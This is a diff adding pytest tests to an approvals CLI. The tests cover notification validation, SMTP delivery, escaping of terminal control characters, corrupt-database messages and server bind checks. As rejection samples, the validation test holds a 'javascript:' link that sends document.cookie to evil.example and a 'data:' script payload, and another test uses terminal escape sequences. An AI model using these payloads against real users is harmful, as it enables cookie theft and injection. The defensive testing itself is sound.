@@ -184,3 +184,115 @@ def test_serve_runs_a_real_server_process(env, tmp_path):
 def test_serve_rejects_a_bad_address(run):
     result = run("serve", "--bind", "nonsense")
     assert result.exit_code == 2 and "not HOST:PORT" in result.output
+
+
+@pytest.fixture
+def catcher(tmp_path, env):
+    """A real SMTP server catching what `vend approvals` mails; env sends to it."""
+    from aiosmtpd.controller import Controller
+    from vendor.approvals import outbox
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    controller = Controller(outbox.Catcher(tmp_path / "caught"), hostname="127.0.0.1", port=port)
+    controller.start()
+    env.update({"VEND_MAIL_TRANSPORT": "smtp", "VEND_SMTP_HOST": "127.0.0.1", "VEND_SMTP_PORT": str(port)})
+    yield lambda: outbox.entries(tmp_path / "caught")
+    controller.stop()
+
+
+def _notification(tmp_path, **approval) -> str:
+    path = tmp_path / "n.json"
+    expires = time.strftime("%Y-%m-%dT%H:%MZ", time.gmtime(time.time() + 86400))
+    top = {k: approval.pop(k) for k in list(approval) if k in ("consoleLink", "Message")}
+    path.write_text(json.dumps({**NOTIFICATION, **top,
+                                "approval": {**NOTIFICATION["approval"], "expires": expires, **approval}}))
+    return str(path)
+
+
+@pytest.mark.parametrize("fields, problem", [
+    ({"pipelineName": 5}, "approval.pipelineName must be text, not a number"),
+    ({"expires": ["2024-07-07T20:22Z"]}, "approval.expires must be text, not a list"),
+    ({"token": {"t": 1}}, "approval.token must be text, not a mapping"),
+    ({"customData": json.dumps({"customer": "acme", "environment": "production", "approvers": "ann@example.com"})},
+     "customData approvers must be a list of email addresses, not text"),
+    ({"customData": json.dumps({"customer": 7, "environment": "production", "approvers": ["ann@example.com"]})},
+     "customData customer must be text, not a number"),
+    ({"consoleLink": 12}, "consoleLink must be text, not a number"),
+    ({"consoleLink": "javascript:fetch('//evil.example/'+document.cookie)"},
+     "consoleLink 'javascript:fetch('//evil.example/'+document.cookie)' is not an https: or http: link"),
+    ({"approvalReviewLink": "data:text/html,<script>alert(1)</script>"},
+     "approval.approvalReviewLink 'data:text/html,<script>alert(1)</script>' is not an https: or http: link"),
+])
+def test_notify_refuses_wrong_types_and_non_web_links(run, tmp_path, catcher, fields, problem):
+    """`vend approvals notify` refuses a notification with fields of the wrong type or a non-http(s) link, naming the field; nothing is mailed."""
+    path = _notification(tmp_path, **fields)
+    result = run("notify", path)
+    assert (result.exit_code, result.output) == (2, f"vend approvals: {path}: {problem}\n")
+    assert catcher() == []
+
+
+def test_notify_mails_the_console_link_through_smtp(run, tmp_path, catcher):
+    result = run("notify", _notification(tmp_path))
+    assert result.exit_code == 0, result.output
+    [mail] = catcher()
+    from vendor.approvals import outbox
+    text = outbox.text_of(outbox.read(tmp_path / "caught", mail.key))
+    assert f"Details:      {NOTIFICATION['consoleLink']}" in text
+
+
+def test_terminal_escapes_in_comments_are_shown_escaped(run, env):
+    """Control characters in an approver's comment (or name) are printed escaped, never sent to the terminal raw."""
+    r, store = _open(env)
+    evil = "ok\x1b]0;pwned\x07\x1b[2J\rdone\u202e"
+    result = run("approve", r.id, "--by", "ann\x1b[31m", "-m", evil)
+    assert (result.exit_code, result.output) == (0, f"{r.id} approved by ann\\x1b[31m\n")
+    shown = run("show", r.id).output
+    assert "comment:     ok\\x1b]0;pwned\\x07\\x1b[2J\\rdone\\u202e\n" in shown
+    assert "decided by:  ann\\x1b[31m\n" in shown
+    assert "\x1b" not in shown and "\x1b" not in run("list", "--all").output
+    again = run("reject", r.id, "--by", "bob")
+    assert again.output == f"vend approvals: {r.id} was already approved by ann\\x1b[31m (cli); nothing changed\n"
+
+
+def test_corrupt_database_is_named_with_the_fix(run, env, tmp_path):
+    """An approvals database that is not one gives one line naming the file and what to do, no traceback."""
+    db = tmp_path / "state" / "approvals.sqlite3"
+    db.parent.mkdir(parents=True)
+    db.write_bytes(b"this is not a database" * 100)
+    for args in (("list",), ("show", "apr-1"), ("approve", "apr-1")):
+        result = CliRunner().invoke(approvals, list(args), env=env)
+        assert (result.exit_code, result.output) == (2, (
+            f"vend approvals: {db} is not a readable approvals database (file is not a database); "
+            f"move it aside to start afresh (pending requests in it are lost): mv {db} {db}.corrupt\n")), args
+
+
+def test_serve_checks_the_key_before_it_says_serving(run, env, tmp_path):
+    """`vend approvals serve` with a bad key file fails with the fix, and never says it is serving."""
+    key = tmp_path / "state" / "approvals.key"
+    key.parent.mkdir(parents=True)
+    key.write_text("k" * 64 + "\n")
+    key.chmod(0o644)
+    result = CliRunner().invoke(approvals, ["serve", "--bind", "127.0.0.1:0"], env=env)
+    assert (result.exit_code, result.output) == (
+        2, f"vend approvals: {key}: key file is readable by others (mode 644); run: chmod 600 {key}\n")
+
+
+def test_serve_on_every_address_needs_a_public_url(run, monkeypatch):
+    """`--bind 0.0.0.0` without a public URL is refused: mails would carry http://0.0.0.0 links."""
+    def would_serve(settings, **kw):  # never listen on every address in a test
+        raise SystemExit("vend approvals: would serve on every address")
+    monkeypatch.setattr(cli_module.server, "serve", would_serve)
+    for bind in ("0.0.0.0:8377", "[::]:8377"):
+        result = run("serve", "--bind", bind)
+        assert (result.exit_code, result.output) == (2, (
+            f"vend approvals: bind address {bind} listens on every address, so it cannot be the base of the "
+            "links in mails; give the address approvers reach with --public-url or VEND_APPROVALS_PUBLIC_URL "
+            "(e.g. https://approvals.example.com)\n")), bind
+
+
+def test_links_are_never_mailed_for_an_every_address_bind(run, env, tmp_path, catcher):
+    env["VEND_APPROVALS_BIND"] = "0.0.0.0:8377"
+    result = run("notify", _notification(tmp_path))
+    assert result.exit_code == 2 and "listens on every address" in result.output
+    assert catcher() == []
